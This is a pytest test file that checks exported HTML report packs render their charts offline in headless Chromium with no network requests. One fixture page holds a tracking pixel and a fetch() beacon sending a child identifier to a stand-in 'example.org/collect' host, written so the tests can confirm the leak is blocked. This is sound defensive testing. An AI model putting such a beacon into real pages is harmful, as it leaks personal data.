"""Packs open offline in headless Chromium (packs.browser): charts draw, nothing leaves."""

import os
import shutil

import altair as alt
import pandas as pd
import pytest

from csc_workbench.packs.browser import CHROMIUM, check_many, screenshot
from csc_workbench.packs.render import execute_notebook, export_html
from packs_helpers import FIXTURE_NB

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module", autouse=True)
def chromium_present():
    """The offline check is a requirement, so a missing browser fails (it is skipped only
    when asked to, with CSCW_SKIP_BROWSER=1)."""
    if shutil.which(CHROMIUM) or os.path.exists(CHROMIUM):
        return
    if os.environ.get("CSCW_SKIP_BROWSER") == "1":
        pytest.skip("CSCW_SKIP_BROWSER=1")
    pytest.fail(f"Chromium not found at {CHROMIUM}: `sudo apt-get install chromium` (bash .ci/run does), "
                f"or set CSCW_CHROMIUM, or CSCW_SKIP_BROWSER=1 to skip these tests")


@pytest.fixture(scope="module")
def pages(tmp_path_factory):
    root = tmp_path_factory.mktemp("browser")
    ipynb = root / "pack.ipynb"
    execute_notebook(FIXTURE_NB, ipynb, {"authority": "E1", "month": "2025-06"})
    pack = export_html(ipynb, root / "pack.html", "shared").path

    leaky = root / "leaky.html"
    leaky.write_text("""<!DOCTYPE html><html><head><title>leaky</title></head><body>
        <img src="http://example.com/pixel.png" alt="">
        <script>fetch("https://example.org/collect?child=E1C0001").catch(() => {});</script>
        </body></html>""")

    # What altair itself writes: a page that loads Vega from a CDN. Offline, nothing draws.
    stock = root / "stock_altair.html"
    alt.Chart(pd.DataFrame({"x": [1, 2], "y": [3, 4]})).mark_line().encode(x="x", y="y").save(stock)

    broken = root / "broken.html"
    text = pack.read_text()
    broken.write_text(text.replace('"mark": {"type": "line"', '"mark": {"type": "no-such-mark"', 1))
    return {"pack": pack, "leaky": leaky, "stock": stock, "broken": broken}


@pytest.fixture(scope="module")
def checks(pages):
    results = check_many(list(pages.values()))
    return dict(zip(pages, results))


def test_pack_draws_every_chart_offline_with_no_request_or_error(checks):
    result = checks["pack"]
    assert result.charts == 2 and result.drawn == 2
    assert result.blocked_requests == [] and result.console_errors == [] and result.page_errors == []
    assert result.ok, result
    assert result.title == "Fixture pack: E1, June 2025 (OFFICIAL)"


def test_a_page_reaching_for_the_network_is_caught(checks):
    result = checks["leaky"]
    assert not result.ok
    assert "http://example.com/pixel.png" in result.blocked_requests
    assert any(u.startswith("https://example.org/collect") for u in result.blocked_requests)


def test_a_page_loading_vega_from_a_cdn_fails_offline(checks):
    result = checks["stock"]
    assert not result.ok
    assert result.charts == 1 and result.drawn == 0
    assert any("cdn.jsdelivr.net" in u for u in result.blocked_requests)


def test_a_chart_that_cannot_draw_is_reported(checks, pages):
    assert '"no-such-mark"' in pages["broken"].read_text()
    result = checks["broken"]
    assert not result.ok and result.drawn < result.charts
    assert "charts did not draw" in "; ".join(result.problems())


def test_screenshot(pages, tmp_path):
    png = tmp_path / "pack.png"
    result = screenshot(pages["pack"], png)
    assert result.ok
    assert png.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and png.stat().st_size > 20_000


def test_charts_are_interactive_offline(pages):
    from csc_workbench.packs.browser import browser_context

    with browser_context() as (context, blocked):
        page = context.new_page()
        page.goto(pages["pack"].as_uri())
        page.wait_for_selector(".vega-embed svg g.mark-symbol path")
        page.locator(".vega-embed").first.locator("g.mark-symbol path").nth(3).hover(force=True)
        page.wait_for_selector("#vg-tooltip-element.visible", timeout=5000)
        tooltip = page.inner_text("#vg-tooltip-element")
    assert "Month" in tooltip and "Re-referrals (%)" in tooltip
    assert blocked == []
